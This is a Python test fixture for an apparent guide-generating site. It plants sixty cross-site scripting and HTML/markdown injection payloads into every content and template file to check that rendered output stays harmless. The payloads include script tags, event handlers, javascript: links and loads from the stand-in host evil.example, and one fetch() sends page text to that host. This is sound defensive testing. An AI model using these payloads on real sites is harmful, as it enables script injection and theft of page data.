"""Sixty lines that a stranger might put into a content file, and a copy of content and templates that holds them in
each kind of file."""

import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from examples import DAY, ROOT
from matchguide import paths
from matchguide.session import Session

RUN = "window.pwned=1"
GO = "fetch('https://evil.example/?'+document.body.innerText)"
LINES = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=\"{GO}\">",
    "<img src=https://evil.example/x.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onloadstart={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<iframe src=\"javascript:parent.{RUN}\"></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    f"<a href=\"javascript:{RUN}\">x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"</div></div></article></main><script>{RUN}</script>",
    f"<!-- --><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php ?><script>{RUN}</script>",
    f"<p markdown=\"1\" onclick=\"{RUN}\">x</p>",
    f"<details markdown=\"1\" open ontoggle=\"{RUN}\">\nx\n</details>",
    f"[a link](javascript:{RUN})",
    f"[a link](JaVaScRiPt:{RUN})",
    f"[a link](&#106;avascript:{RUN})",
    f"[a link](java\tscript:{RUN})",
    f"[a link]( javascript:{RUN} )",
    f"[a link](<javascript:{RUN}>)",
    f"[a link](data:text/html,<script>{RUN}</script>)",
    f"[a link](vbscript:{RUN} 'title')",
    "[a link](http://evil.example/)",
    "[a link](//evil.example/)",
    f"[[a link]](javascript:{RUN})",
    f"[[charting-2026-ir.matched|a figure]](javascript:{RUN})",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    f"[ref2][r2]\n\n   [r2]:\n   javascript:{RUN}",
    "![picture](https://evil.example/x.png)",
    "![picture][p]\n\n[p]: https://evil.example/y.png",
    f"<javascript:{RUN}>",
    f"words\n{{: onclick=\"{RUN}\" onmouseover=\"{RUN}\" }}",
    f"*words*{{: onclick=\"{RUN}\" style=\"position:fixed;inset:0\" }}",
    f"### A heading {{ onclick=\"{RUN}\" }}",
    f"[home](index.md){{: onclick=\"{RUN}\" onfocus=\"{RUN}\" autofocus=1 }}",
    f"| a | b |\n|---|---|\n| x | y {{: onclick=\"{RUN}\" }} |",
]  # fmt: skip
WHERE = ("card", "rule", "faq", "glossary", "season", "interview", "words", "combination", "evidence", "labels")


def all_of_them() -> str:
    return "\n\n".join(f"Harmless words. {line}\n\n{line}" for line in LINES)


def hostile_session(place: Path, profile: str = "amara") -> Session:
    """The example profile, written with content and words that hold every line in each kind of file, and the check of
    content out of the way: what it would refuse must still be harmless."""
    content, templates = place / "content", place / "templates"
    shutil.copytree(paths.CONTENT, content)
    shutil.copytree(paths.TEMPLATES, templates)
    every = all_of_them()

    card = content / "specialties" / "internal-medicine.md"
    head, body = card.read_text(encoding="utf-8").split("---\n", 2)[1:]
    front = yaml.safe_load(head)
    front["one_thing"] += " " + every
    front["who"][0]["text"] += " " + every
    front["roads"] = [
        {**road, "catch": every, "to": road["to"] + f" <script>{RUN}</script>"} for road in front["roads"]
    ]
    body = body.replace(
        "## Why it attracts\n", f"## Why it attracts\n\n{every.replace(chr(10) + '## ', chr(10))}\n\n"
    )
    card.write_text(f"---\n{yaml.safe_dump(front)}---\n{body}", encoding="utf-8")

    def change(path: Path, act: Any) -> None:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        act(data)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")

    def first(*fields: str) -> Any:
        """Every line in the first entry that has them all; the next lines, three each, in all others."""

        def act(data: Any) -> None:
            entries = [e for e in next(v for v in data.values() if isinstance(v, list)) if set(fields) <= set(e)]
            for i, entry in enumerate(entries):
                some = every if i == 0 else "\n\n".join(LINES[(3 * i + n) % 60] for n in range(3))
                entry.update({field: f"{entry[field]}\n\n{some}" for field in fields})

        return act

    for path in (content / "rules").glob("*.yml"):
        change(path, first("say"))
        change(path, first("do"))
    change(content / "faq.yml", first("ask", "answer"))
    change(content / "glossary.yml", first("term", "means"))
    change(content / "interviews" / "common.yml", first("ask", "what_they_want", "frame"))
    season = content / "seasons" / "2027.yml"
    change(season, lambda d: [e.update(text=e["text"] + " " + LINES[i % 60]) for i, e in enumerate(d["events"])])
    evidence = content / "evidence" / "nrmp-rules.yml"
    change(
        evidence,
        lambda d: [e.update(says=e["says"] + " " + LINES[i % 60]) for i, e in enumerate(d["items"].values())],
    )
    combination = content / "goals" / "interventional-radiology" / "combinations.yml"
    change(combination, lambda d: d["stages"].update({k: v + "\n\n" + every for k, v in d["stages"].items()}))

    def words(data: Any) -> None:
        for i, key in enumerate(data):
            some = " ".join(LINES[(i * 5 + n) % 60] for n in range(5))
            hostile = f"{{% raw %}}{some}{{% endraw %}}"
            if isinstance(data[key], list):  # of several, each with its condition
                data[key] = [{**row, "say": f"{row['say']} {hostile}"} for row in data[key]]
            else:
                data[key] = f"{data[key]} {hostile}"

    for path in (templates / "words").glob("*.yml"):
        change(path, words)

    def called(data: Any) -> None:
        for key, value in data.items():
            if isinstance(value, dict):
                called(value)
            else:
                data[key] = f"{value} {LINES[6]}"

    change(templates / "labels.yml", called)
    session = Session(ROOT / "profiles" / f"{profile}.yml", DAY, content, templates)
    with pytest.MonkeyPatch.context() as without:
        without.setattr("matchguide.session.check_once", lambda *_: None)
        assert session.guide.pages
    return session
